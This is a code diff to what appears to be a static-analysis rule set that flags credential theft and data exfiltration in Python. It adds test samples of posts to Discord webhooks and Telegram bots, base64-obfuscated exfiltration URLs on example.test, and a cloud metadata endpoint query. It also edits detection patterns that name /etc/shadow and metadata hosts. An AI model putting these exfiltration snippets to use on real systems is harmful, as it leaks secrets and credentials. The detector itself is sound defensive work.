@@ -1,7 +1,7 @@
 import { anyOf, sequence, type Test } from '../../text-search.ts'
 import { argumentOf, argumentsOf, type CodeFacts, isProgramStart, lookedUp } from '../code-facts.ts'
 import type { Call } from '../flow/flow.ts'
-import { areLoopback, hostOf } from '../flow/hosts.ts'
+import { areLoopback, hostOf, showsHost } from '../flow/hosts.ts'
 import { names } from '../flow/names.ts'
 import { isSecretPlace } from '../flow/python-names.ts'
 import { has, type Value } from '../flow/values.ts'
@@ -65,6 +65,7 @@ export const credentials: CodeRule = {
       'options = ["local storage", "cloud"]',
       'import os\nif os.path.exists(os.path.expanduser("~/.netrc")): pass',
       'f = tmp_path / ".netrc"\nf.write_text("machine example.test")',
+      'import requests\nprint(requests.get("http://169.254.169.254/latest/meta-data/instance-id").text)',
     ],
   },
   *find(facts) {
@@ -106,7 +107,8 @@ const storedSecrets: [RegExp, string][] = [
     'Names a chat program’s stored session.',
   ],
   [
-    /\b(169\.254\.169\.254|169\.254\.170\.2|100\.100\.100\.200|metadata\.google\.internal)\b/,
+    // The name or location of the machine does not count as a key.
+    /\b(169\.254\.169\.254|169\.254\.170\.2|100\.100\.100\.200|metadata\.google\.internal)\b(?!\/latest\/meta-data\/(instance-id|instance-type|ami-id|hostname|local-hostname|placement\/[a-z-]+)\/?$)/,
     'Asks a cloud for the keys of the machine.',
   ],
   [/^[\\/]etc[\\/]shadow$/, 'Names the system’s stored passwords.'],
@@ -315,11 +317,14 @@ export const exfiltration: CodeRule = {
       'u = "https://api.telegram.org/bot1234567890:AAabcdefghijklmnopqrstuvwxyz123456789/sendDocument"',
       'import requests\nid = "123456789012345678"\nrequests.post("https://discord.com/api/webhooks/" + id + "/abcdefghijklmnopqrstuvwxyz_ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789abcd")',
       'import requests, base64\nrequests.post(base64.b64decode("aHR0cHM6Ly9leGFtcGxlLnRlc3QvYw==").decode(), data=x)',
+      'import requests, base64\nrequests.post("https://example.test/" + base64.b64decode("aW5ib3gvY29sbGVjdG9yL3YxL3B1c2g=").decode(), data=x)',
     ],
     harmless: [
       'u = f"https://discord.com/api/webhooks/{user_id}/{token}"',
       'u = "https://discord.com/invite/abc"',
       'u = f"https://api.telegram.org/bot{token}/sendMessage"',
+      'import base64, urllib.request\ndef post(url, picture):\n    urllib.request.urlopen(urllib.request.Request(url, data=base64.b64decode(picture)))\npost("https://example.test/v1", x)',
+      'import requests, base64, os\nkey = base64.b64decode(os.environ["MY_KEY"]).decode()\nrequests.post(f"https://example.test/v1?key={key}", json={"a": 1})',
     ],
   },
   *find(facts) {
@@ -336,7 +341,7 @@ export const exfiltration: CodeRule = {
       if (where) yield { line: call.line, message: where }
       else if (
         has(address, 'decoded') &&
-        (address?.texts.some((text) => hostOf(text) !== '') || isPost) &&
+        (isHidden(address, facts.text) || (isPost && address?.texts.every((text) => hostOf(text) === ''))) &&
         !has(address, 'network')
       )
         yield {
@@ -347,6 +352,10 @@ export const exfiltration: CodeRule = {
         }
     }
   },
+}
+
+function isHidden(address: Value | undefined, source: string): boolean {
+  return address?.texts.some((text) => hostOf(text) !== '' && !showsHost(text, source)) === true
 }
 
 const collector =
